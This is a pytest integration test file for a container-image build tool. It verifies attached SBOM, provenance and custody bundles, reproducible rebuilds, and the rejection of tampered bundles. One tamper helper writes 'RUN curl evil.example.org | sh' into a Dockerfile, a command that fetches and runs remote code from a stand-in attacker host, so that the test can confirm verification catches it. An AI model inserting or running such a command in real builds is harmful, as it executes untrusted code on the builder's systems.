"""What travels with an image: bill of materials, provenance, and the bundle from which it is built again with nothing else."""

import io
import json
import shutil
import tarfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator

from build.doors import store
from build.doors.effects import EngineHandle
from build.doors.referrers import ReferrersRegistry
from build.host import registry as server
from build.image.layout import open_layout
from build.pin.model import Pin
from build.plan.model import ImagePlan
from build.publish.attach import CYCLONEDX, IN_TOTO, attach
from build.publish.depot import CUSTODY, deposit, fetch
from build.publish.parcel import pack, send
from build.recipe.refs import Digest, ImageRef
from build.settings import Namespace, Settings
from tests.fakes import RecordingReporter
from tests.integration.conftest import Checkout, Ran, make_checkout
from tests.unit.publish.published import Silent

pytestmark = pytest.mark.engine

HERE = ("--without", "engine,ccache")
"""The engine of the tests and its compile cache: what else differs is enough here."""


def said(ran: Ran) -> str:
    return " ".join(ran.err.split())


@pytest.fixture(scope="session")
def kept(good: Checkout) -> Checkout:
    """The sample, pushed with all that travels with it."""
    before = good.artifact("push")
    pushed = good.run("push", "--custody", "minifork")
    assert pushed.code == 0, pushed.err
    after = good.artifact("push")
    assert (after["digest"], after["refs"]) == (before["digest"], before["refs"]), "the image is what it was"
    return good


@pytest.fixture
def subject(kept: Checkout) -> ImageRef:
    receipt = kept.artifact("push")
    return replace(ImageRef.parse(next(iter(receipt["refs"]))), tag="", digest=Digest(receipt["digest"]))


@pytest.fixture
def registry(tmp_path: Path) -> ReferrersRegistry:
    return ReferrersRegistry(docker_config=tmp_path)


@pytest.fixture(scope="module")
def elsewhere(
    tmp_path_factory: pytest.TempPathFactory,
    settings: Settings,
    engine: EngineHandle,
    loopback: server.RegistryServer,
) -> Checkout:
    """Another machine: an empty cache, no recipe, no patch, no sample to make an upstream of."""
    made = make_checkout(tmp_path_factory.mktemp("elsewhere") / "checkout", settings, engine, loopback)
    for path in (made.root / "samples", made.root / "patches", *(made.root / "recipes").glob("*.yaml")):
        store.discard(path)
    made.env.update(dict(engine.environment))
    made.env.update({"INGOT_ENGINE": "host", "INGOT_CACHE": str(made.root / "cache")})
    return made


def test_what_is_attached_is_what_was_written_and_is_said_again(
    kept: Checkout, subject: ImageRef, registry: ReferrersRegistry
) -> None:
    listed = {one.artifact_type: one.digest for one in registry.referrers(subject)}
    assert listed == kept.artifact("push")["attached"]
    assert set(listed) == {CYCLONEDX, IN_TOTO, CUSTODY}
    bill = (kept.out / "minifork" / "sbom.cdx.json").read_text()
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(bill) is None
    parts = {one["name"] for one in json.loads(bill)["components"]}
    assert {"minifork", "libc6", "bash", "nvidia-cuda-runtime"} <= parts
    assert "nvidia-cuda-nvcc" not in parts, "a compiler is not in the image"
    shown = kept.run("inspect", str(subject), "--json")
    assert shown.code == 0, shown.err
    found = json.loads(shown.out)["attached"]
    assert (found["bundles"], found["refused"]) == ([listed[CUSTODY]], [])
    assert found["bill"]["debian"] > 50
    (claim,) = found["claims"]
    assert claim["started"] < claim["finished"]
    assert f"./noxw -s verify -- --image {subject}" in shown.out


def test_pushing_again_attaches_nothing_again(
    kept: Checkout, subject: ImageRef, registry: ReferrersRegistry
) -> None:
    before = registry.referrers(subject), registry.tags(subject)
    assert kept.run("push", "--custody", "minifork").code == 0
    assert kept.run("push", "minifork", INGOT_ATTEST="yes").code == 0
    assert (registry.referrers(subject), registry.tags(subject)) == before


def test_another_machine_builds_it_again_from_the_registry_alone(
    elsewhere: Checkout, subject: ImageRef
) -> None:
    lost = elsewhere.run("build", "minifork")
    assert lost.code == 3, "there is no recipe here"
    ran = elsewhere.run("verify", "--image", str(subject), *HERE, "--json")
    assert ran.code == 0, ran.err
    found = json.loads(ran.out)
    assert (found["verdict"], found["after"]["digest"]) == ("identical", subject.digest)
    assert sorted(
        path.name for path in (elsewhere.root / "cache" / "pulled").iterdir() if path.suffix != ".lock"
    ) == (sorted(Digest(found_pin(elsewhere)[name]["digest"]).hex for name in ("toolchain", "base"))), (
        "no layer of the image was pulled"
    )


def found_pin(checkout: Checkout) -> dict[str, dict[str, str]]:
    (bundle,) = (checkout.root / "cache" / "custody").glob("[!.]*")
    found: dict[str, dict[str, str]] = json.loads((bundle / "pin.json").read_text())
    return found


def test_a_tag_is_refused_with_the_digest_that_it_means(elsewhere: Checkout, subject: ImageRef) -> None:
    ran = elsewhere.run("verify", "--image", str(replace(subject, tag="latest", digest=None)))
    assert ran.code == 2
    assert f"is a tag, and tags move: now it means {subject.digest}" in said(ran)
    assert f"--image {subject}" in said(ran)


def test_an_image_without_a_bundle_is_no_verdict(elsewhere: Checkout, plain: ImageRef) -> None:
    ran = elsewhere.run("verify", "--image", str(plain), *HERE)
    assert ran.code == 3
    assert f"{plain} has no bundle attached" in said(ran)


@pytest.fixture
def plain(kept: Checkout, subject: ImageRef, registry: ReferrersRegistry, tmp_path: Path) -> ImageRef:
    """The same image in a repository of its own, with nothing attached."""
    other = replace(subject, repository=f"{subject.repository}/{tmp_path.name.lower().replace('_', '-')}")
    parcel = pack(open_layout(kept.out / "minifork" / "image"))
    with RecordingReporter().step("send") as step:
        send(registry, other, parcel.blobs, step)
    registry.put_manifest(other, parcel.manifest.data, parcel.manifest.media_type)
    return other


def change_source(bundle: Path) -> tuple[str, str]:
    """Put another line into one file of the source."""
    changed = io.BytesIO()
    with (
        tarfile.open(bundle / "source.tar") as before,
        tarfile.open(fileobj=changed, mode="w", format=tarfile.PAX_FORMAT) as after,
    ):
        for member in before:
            data = before.extractfile(member).read() if member.isreg() else b""  # type: ignore[union-attr]
            data += b"\n// evil\n" if member.name == "server/server.cpp" else b""
            member.size = len(data)
            after.addfile(member, io.BytesIO(data))
    replace_file(bundle / "source.tar", changed.getvalue())
    return "tree", pin_of(bundle).source.tree


def change_patch(bundle: Path) -> tuple[str, str]:
    proof = pin_of(bundle).source.patches[0]
    path = bundle / "patches" / proof.file
    replace_file(path, path.read_bytes().replace(b"+", b"-", 1))
    return store.sha256_file(path), proof.sha256


def change_plan(bundle: Path) -> tuple[str, str]:
    document = json.loads((bundle / "plan.json").read_text())
    for file in document["files"]:
        if file[0] == "Dockerfile":
            file[1] += "RUN curl evil.example.org | sh\n"
    replace_file(bundle / "plan.json", json.dumps(document).encode())
    return "its inputs have the fingerprint", document["fingerprint"]


def change_toolchain(bundle: Path) -> tuple[str, str]:
    shutil.rmtree(bundle / "toolchain")
    shutil.copytree(bundle / "base", bundle / "toolchain")
    pin = pin_of(bundle)
    assert pin.toolchain
    return pin.base.digest, pin.toolchain.digest


def replace_file(path: Path, data: bytes) -> None:
    path.unlink()
    path.write_bytes(data)


def pin_of(bundle: Path) -> Pin:
    return store.read_artifact(bundle / "pin.json", Pin, made_by="the test")


@pytest.mark.parametrize("change", [change_source, change_patch, change_plan, change_toolchain])
def test_a_bundle_with_one_thing_changed_is_refused_with_both_hashes(  # noqa: PLR0913, PLR0917
    elsewhere: Checkout,
    kept: Checkout,
    subject: ImageRef,
    plain: ImageRef,
    registry: ReferrersRegistry,
    tmp_path: Path,
    change: Callable[[Path], tuple[str, str]],
) -> None:
    plan = store.read_artifact(kept.out / "minifork" / "plan.json", ImagePlan, made_by="the test")
    bundle = fetch(subject, plan.fingerprint, elsewhere.root / "cache", registry, Silent())
    evil = tmp_path / "bundle"
    shutil.copytree(bundle, evil)
    found, wanted = change(evil)
    host, _, path = kept.env["INGOT_REGISTRY"].partition("/")
    artifact = deposit(evil, plan, plain, Namespace(host=host, path=path), registry, Silent())
    attach(plain, (artifact,), registry, Silent())
    ran = elsewhere.run("verify", "--image", str(plain), *HERE)
    assert ran.code == 1, ran.err
    assert found in said(ran)
    assert wanted in said(ran)
    assert "✓ compile" not in ran.err, "nothing is built of it"
